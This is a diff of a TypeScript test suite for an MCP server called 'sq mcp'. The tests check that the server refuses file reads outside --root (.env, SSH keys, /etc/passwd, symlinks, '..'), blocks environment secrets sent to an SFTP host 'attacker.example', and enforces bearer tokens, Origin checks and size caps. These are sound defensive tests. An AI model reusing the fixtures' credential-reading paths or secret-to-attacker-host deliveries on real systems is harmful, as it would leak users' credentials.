+    const agent = await stdio(['--allow-writes', '--confirm-above', '1']);
+    await emu.clearRequests();
+    const asked = await agent.ok('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'r-1' });
+    expect(asked).toMatchObject({ needs_confirmation: true, estimate: { total_credits: expect.any(Number) } });
+    expect(asked.message).toContain('confirm: true');
+    expect((await emu.requests('POST')).map((q) => q.path)).toEqual(['/v1/squid/estimate']);
+    const run = await agent.ok('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'r-1', confirm: true });
+    expect(run.id).toMatch(/^[0-9a-f]{32}$/);
+    const again = await agent.ok('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'r-1', confirm: true });
+    expect(again).toMatchObject({ id: run.id, replayed: true });
+    expect((await emu.requests('POST')).filter((q) => q.path === '/v1/runs')).toHaveLength(1);
+    // Under the threshold: no question.
+    const cheap = await stdio(['--allow-writes', '--confirm-above', '1000000']);
+    expect((await cheap.ok('runs_start', { squid: DEMO_SQUIDS.headphones })).needs_confirmation).toBeUndefined();
+  });
+
+  it('a write whose connection drops after sending says request_state: "unknown", and is not retried', async () => {
+    const agent = await stdio(['--allow-writes']);
+    await emu.faults([{ method: 'POST', path: '/v1/runs', action: 'reset_mid_body', count: 1 }]);
+    const r = await agent.call('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'drop-1' });
+    expect(r.isError).toBe(true);
+    expect(r.content[0].text).toContain('request_state: unknown');
+    // The same key again: refused as unknown rather than a second run.
+    expect((await emu.requests('POST')).filter((q) => q.path === '/v1/runs')).toHaveLength(1);
   });
 });
 
-describe('sq mcp with stdin closed at once', () => {
-  it('answers every request it read before it ends (echo … | sq mcp), exit 0', async () => {
+describe('files: no tool reads one unless --root, and no answer quotes one', () => {
+  function fixture() {
+    const home = tempDir();
+    const root = join(home, 'root');
+    mkdirSync(root);
+    writeFileSync(join(home, '.env'), `DATABASE_URL=postgres://u:${SECRET}@db/x\n`);
+    writeFileSync(join(home, 'id_ed25519'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`);
+    symlinkSync(join(home, '.env'), join(root, 'link.yaml'));
+    writeFileSync(join(root, 'sq.yaml'), 'squids:\n  "Paris restaurants":\n    concurrency: 2\n');
+    writeFileSync(join(root, 'bad.yaml'), `squids:\n  a: { crawler: [${SECRET}] }\n`);
+    writeFileSync(join(root, 'big.yaml'), `# ${'x'.repeat(1024 * 1024)}\n`);
+    writeFileSync(join(root, 'tasks.yaml'), 'squids:\n  "Paris restaurants":\n    tasks: { file: ../.env }\n');
+    return { home, root };
+  }
+
+  it('without --root: a path is refused naming --root; a document inline works; its tasks files are refused', async () => {
+    const { home } = fixture();
+    const agent = await stdio(['--allow-writes']);
+    for (const [tool, extra] of [['plan', {}], ['apply', { dry_run: true }], ['delivery_apply', { dry_run: true }]] as const) {
+      for (const file of [join(home, '.env'), join(home, 'id_ed25519'), '/etc/passwd', '.env']) {
+        const r = await agent.call(tool, { file, ...extra });
+        expect(r.isError).toBe(true);
+        expect(r.content[0].text).toContain('--root');
+      }
+    }
+    const inline = await agent.ok('plan', { document: 'squids:\n  "Paris restaurants":\n    concurrency: 2\n' });
+    expect(inline.summary).toBeDefined();
+    const tasks = await agent.call('plan', { document: 'squids:\n  "Paris restaurants":\n    tasks: { file: .env }\n' });
+    expect(tasks.content[0].text).toContain('--root');
+    expect(agent.answers.join('')).not.toContain(SECRET);
+    expect(agent.answers.join('')).not.toContain('root:x:0');
+  });
+
+  it('with --root: inside it works; "..", an absolute path outside, a symbolic link out, a big file are refused; parse errors quote nothing', async () => {
+    const { home, root } = fixture();
+    const agent = await stdio(['--root', root]);
+    expect((await agent.ok('plan', { file: 'sq.yaml' })).summary).toBeDefined();
+    for (const file of ['../.env', join(home, '.env'), 'link.yaml', 'big.yaml', '/etc/passwd', 'tasks.yaml', 'bad.yaml', 'nope.yaml']) {
+      const r = await agent.call('plan', { file });
+      expect(r.isError, file).toBe(true);
+    }
+    const bad = await agent.call('plan', { file: 'bad.yaml' });
+    expect(bad.content[0].text).toMatch(/bad\.yaml:2:\d+: squids\.a\.crawler: must be a string \(got a list\)/);
+    const parse = await agent.call('plan', { document: `squids: {a: "${SECRET}\n` });
+    expect(parse.content[0].text).toMatch(/<stdin>:\d+:\d+: cannot parse the account file: expected/);
+    expect(agent.answers.join('')).not.toContain(SECRET);
+    expect(agent.answers.join('')).not.toContain('root:x:0');
+  });
+});
+
+describe('secrets for writes come only from --secret-env (issue 33, E2)', () => {
+  it('delivery_sftp, delivery_s3 and ${VAR} in an applied document are refused naming --secret-env; the host set is shown', async () => {
+    const env = serverEnv({ AWS_SECRET_ACCESS_KEY: 'AKIAFAKE0123456789', SFTP_PASSWORD: 'pw-123' });
+    const agent = await stdio(['--allow-writes', '--secret-env', 'SFTP_PASSWORD'], env);
+    await emu.clearRequests();
+    const sftp = { squid: DEMO_SQUIDS.paris, host: 'attacker.example', username: 'u', directory: '/d' };
+    const stolen = await agent.call('delivery_sftp', { ...sftp, password_env: 'AWS_SECRET_ACCESS_KEY' });
+    expect(stolen.isError).toBe(true);
+    expect(stolen.content[0].text).toContain('--secret-env');
+    const s3 = await agent.call('delivery_s3', { squid: DEMO_SQUIDS.paris, bucket: 'b', access_key_env: 'SFTP_PASSWORD', secret_key_env: 'AWS_SECRET_ACCESS_KEY' });
+    expect(s3.content[0].text).toContain('--secret-env');
+    const doc = 'squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: "${AWS_SECRET_ACCESS_KEY}" }\n';
+    for (const tool of ['apply', 'delivery_apply', 'plan']) expect((await agent.call(tool, { document: doc })).content[0].text, tool).toContain('--secret-env AWS_SECRET_ACCESS_KEY');
+    expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
+    const allowed = await agent.ok('delivery_sftp', { ...sftp, password_env: 'SFTP_PASSWORD' });
+    expect(allowed.delivery_host).toBe('attacker.example:22');
+    expect(agent.answers.join('')).not.toContain('AKIAFAKE0123456789');
+    expect(agent.answers.join('')).not.toContain('pw-123');
+  });
+});
+
+describe('sq mcp over HTTP: token, origin, bind', () => {
+  it('401 without the Bearer token, 403 with a foreign Origin, 200 with both right; --token-env', async () => {
+    const { url, token, stderr } = await httpServer([], serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }));
+    expect(new URL(url).hostname).toBe('127.0.0.1');
+    expect(stderr()).not.toContain('warning');
+    const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } } });
+    const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
+    expect((await fetch(url, { method: 'POST', headers, body: init })).status).toBe(401);
+    expect((await fetch(url, { method: 'POST', headers: { ...headers, authorization: 'Bearer wrong' }, body: init })).status).toBe(401);
+    expect((await fetch(url, { method: 'POST', headers: { ...headers, authorization: `Bearer ${token}`, origin: 'http://evil.example' }, body: init })).status).toBe(403);
+    const ok = await fetch(url, { method: 'POST', headers: { ...headers, authorization: `Bearer ${token}`, origin: new URL(url).origin }, body: init });
+    expect(ok.status).toBe(200);
+    await ok.body?.cancel();
+
+    // A body over --max-message-bytes is refused before it is read.
+    const big = JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'ping', params: { x: 'y'.repeat(2 * 1024 * 1024) } });
+    const tooBig = await fetch(url, { method: 'POST', headers: { ...headers, authorization: `Bearer ${token}` }, body: big }).catch(() => null);
+    expect(tooBig?.status).toBe(413);
+
+    const fixed = await httpServer(['--token-env', 'MCP_TOKEN'], serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }));
+    expect(fixed.token).toBe('a-fixed-token-0123456789');
+    const r = await fetch(fixed.url, { method: 'POST', headers: { ...headers, authorization: 'Bearer a-fixed-token-0123456789' }, body: init });
+    expect(r.status).toBe(200);
+    await r.body?.cancel();
+  });
+
+  it('a non-loopback host is warned about; a bad --http is exit 2', async () => {
+    const { url, stderr, child } = await httpServer([], serverEnv());
+    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/mcp$/);
+    child.kill('SIGTERM');
+    const wide = spawn(process.execPath, [BIN, 'mcp', '--http', '0.0.0.0:0'], { env: serverEnv(), stdio: ['pipe', 'pipe', 'pipe'] });
+    children.push(wide);
+    let err = '';
+    wide.stderr.on('data', (d) => (err += String(d)));
+    await new Promise<void>((ok) => wide.stdout.once('data', () => ok()));
+    await new Promise((r) => setTimeout(r, 200));
+    expect(err).toContain('warning: sq mcp listens on 0.0.0.0, not loopback');
+    const bad = await execa(process.execPath, [BIN, 'mcp', '--http', 'nope'], { env: serverEnv(), extendEnv: false, reject: false, input: '' });
+    expect(bad.exitCode).toBe(2);
+    expect(bad.stderr).toContain('--http');
+    expect(stderr()).not.toContain('warning');
+  });
+});
+
+/** A raw `sq mcp` on pipes, initialized; lines() parses what it wrote. */
+function raw(args: string[] = [], env = serverEnv()) {
+  const child = spawn(process.execPath, [BIN, 'mcp', '--quiet', ...args], { env, stdio: ['pipe', 'pipe', 'pipe'] });
+  children.push(child);
+  let out = '';
+  let err = '';
+  child.stdout.on('data', (d) => (out += String(d)));
+  child.stderr.on('data', (d) => (err += String(d)));
+  child.stdin.on('error', () => {});
+  const closed = new Promise<{ code: number | null; at: number }>((ok) => child.once('close', (code) => ok({ code, at: Date.now() })));
+  child.stdin.write('{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}\n');
+  child.stdin.write('{"jsonrpc":"2.0","method":"notifications/initialized"}\n');
+  const lines = () => out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id?: unknown; error?: { code: number; message: string }; result?: any; jsonrpc: string });
+  const until = async (ok: () => boolean, ms = 15_000) => {
+    for (const end = Date.now() + ms; !ok() && Date.now() < end; ) await new Promise((r) => setTimeout(r, 20));
+  };
+  return { child, lines, until, closed, stderr: () => err };
+}
+const call = (id: number, name: string, args: Record<string, unknown> = {}) => `${JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } })}\n`;
+
+/** A server that accepts connections and never answers: an API that hangs. */
+async function hangingApi(): Promise<{ url: string; close(): void }> {
+  const sockets = new Set<import('node:net').Socket>();
+  const server = createServer((s) => {
+    sockets.add(s);
+    s.on('data', () => {});
+  });
+  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
+  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, close: () => { for (const s of sockets) s.destroy(); server.close(); } };
+}
+
+describe('sq mcp on the wire (issue 33, E5/E6/E13)', () => {
+  it('a malformed message gets a JSON-RPC error with its id when it has one; stdout holds protocol messages only', async () => {
+    const s = raw();
+    await s.until(() => s.lines().length >= 1);
+    s.child.stdin.write('this is not json\n{"hello":"world"}\n{"jsonrpc":"2.0","id":7}\n{"id":"é-8","method":"tools/list"}\n');
+    s.child.stdin.write(call(2, 'balance'));
+    await s.until(() => s.lines().some((l) => l.id === 2));
+    const all = s.lines();
+    expect(all.every((l) => l.jsonrpc === '2.0')).toBe(true);
+    expect(all.filter((l) => l.error).map((l) => [l.id, l.error!.code])).toEqual(expect.arrayContaining([[null, -32700], [null, -32600], [7, -32600], ['é-8', -32600]]));
+    s.child.stdin.end();
+    expect((await s.closed).code).toBe(0);
+  });
+
+  it('a line over --max-message-bytes is answered -32600 with its id, skipped without being held, and later requests are answered', async () => {
+    const s = raw(['--max-message-bytes', '65536']);
+    await s.until(() => s.lines().length >= 1);
+    s.child.stdin.write('{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"balance","arguments":{"pad":"');
+    const chunk = 'a'.repeat(1 << 20);
+    for (let i = 0; i < 12; i++) s.child.stdin.write(chunk);
+    // Answered before the line even ends: it is not held whole.
+    await s.until(() => s.lines().some((l) => l.id === 5));
+    expect(s.lines().find((l) => l.id === 5)?.error).toMatchObject({ code: -32600, message: expect.stringContaining('--max-message-bytes') });
+    s.child.stdin.write('"}}}\n');
+    s.child.stdin.write(call(6, 'balance'));
+    await s.until(() => s.lines().some((l) => l.id === 6));
+    expect(s.lines().find((l) => l.id === 6)?.result?.structuredContent).toBeDefined();
+    s.child.stdin.end();
+    expect((await s.closed).code).toBe(0);
+  });
+
+  it('the default cap is 1 MiB: a 2 MiB line is refused, and a line without a newline is capped too', async () => {
+    const s = raw();
+    await s.until(() => s.lines().length >= 1);
+    s.child.stdin.write(`{"jsonrpc":"2.0","id":9,"method":"ping","params":{"x":"${'b'.repeat(2 * 1024 * 1024)}"}}\n`);
+    await s.until(() => s.lines().some((l) => l.id === 9));
+    expect(s.lines().find((l) => l.id === 9)?.error?.code).toBe(-32600);
+    // 40 MiB without a newline: never held (the cap), never quadratic: answered -32600 and the server still answers.
+    s.child.stdin.write('{"jsonrpc":"2.0","id":10,"method":"ping","x":"');
+    const chunk = Buffer.alloc(1 << 20, 'c');
+    for (let i = 0; i < 40; i++) if (!s.child.stdin.write(chunk)) await new Promise((r) => s.child.stdin.once('drain', r));
+    await s.until(() => s.lines().some((l) => l.id === 10));
+    expect(s.lines().find((l) => l.id === 10)?.error?.code).toBe(-32600);
+    s.child.stdin.write('\n{"jsonrpc":"2.0","id":11,"method":"ping"}\n');
+    await s.until(() => s.lines().some((l) => l.id === 11));
+    expect(s.lines().find((l) => l.id === 11)?.result).toEqual({});
+    s.child.stdin.end();
+    expect((await s.closed).code).toBe(0);
+  });
+
+  for (const [signal, code] of [['SIGTERM', 143], ['SIGINT', 130], ['SIGHUP', 129]] as const) {
+    it(`${signal} with a call in flight on a hanging API: the call is answered cancelled, exit ${code}`, async () => {
+      const api = await hangingApi();
+      try {
+        const s = raw([], serverEnv({ SQ_BASE_URL: api.url }));
+        await s.until(() => s.lines().length >= 1);
+        s.child.stdin.write(call(2, 'balance'));
+        await new Promise((r) => setTimeout(r, 700));
+        s.child.kill(signal);
+        const { code: exit } = await s.closed;
+        expect(exit).toBe(code);
+        expect(s.lines().find((l) => l.id === 2)?.result).toMatchObject({ isError: true, content: [{ text: expect.stringMatching(/^INTERRUPTED/) }] });
+      } finally {
+        api.close();
+      }
+    });
+  }
+
+  it('stdin closed with a call in flight on a hanging API: the call is cancelled and the server exits within 1 s', async () => {
+    const api = await hangingApi();
+    try {
+      const s = raw([], serverEnv({ SQ_BASE_URL: api.url }));
+      await s.until(() => s.lines().length >= 1);
+      s.child.stdin.write(call(2, 'balance'));
+      await new Promise((r) => setTimeout(r, 700));
+      const t = Date.now();
+      s.child.stdin.end();
+      const { at } = await s.closed;
+      expect(at - t).toBeLessThan(1500); // 1 s and the process's own exit, on a loaded machine
+      expect(s.lines().find((l) => l.id === 2)?.result?.isError).toBe(true);
+    } finally {
+      api.close();
+    }
+  });
+
+  it('answers every request it read before stdin ended (echo … | sq mcp), exit 0', async () => {
     const input = [
       { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'pipe', version: '1' } } },
       { jsonrpc: '2.0', method: 'notifications/initialized' },
       { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'squids_get', arguments: { squid: DEMO_SQUIDS.paris } } },
     ];
-    const r = await execa(process.execPath, [BIN, 'mcp', '--quiet'], { env: serverEnv(), extendEnv: false, reject: false, input: input.map((m) => JSON.stringify(m)).join('\n') + '\n' });
+    const r = await execa(process.execPath, [BIN, 'mcp', '--quiet'], { env: serverEnv(), extendEnv: false, reject: false, input: `${input.map((m) => JSON.stringify(m)).join('\n')}\n` });
     expect(r.exitCode, r.stderr).toBe(0);
-    expect(r.stderr).toBe('');
     const answers = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: number; result: CallResult });
     expect(answers.map((a) => a.id)).toEqual([1, 2]);
-    expect(answers[1].result.structuredContent).toEqual(await json(['squids', 'get', DEMO_SQUIDS.paris]));
+    expect(answers[1].result.structuredContent).toMatchObject({ name: DEMO_SQUIDS.paris });
   });
 });
 
@@ -284,6 +618,6 @@ describe('the MCP Inspector (CLI mode) against sq mcp', () => {
     expect(got.exitCode, got.stderr).toBe(0);
     const result = JSON.parse(got.stdout) as CallResult;
     expect(result.isError).toBeFalsy();
-    expect(result.structuredContent).toEqual(await json(['squids', 'get', DEMO_SQUIDS.headphones]));
+    expect(result.structuredContent).toMatchObject({ name: DEMO_SQUIDS.headphones });
   });
 });
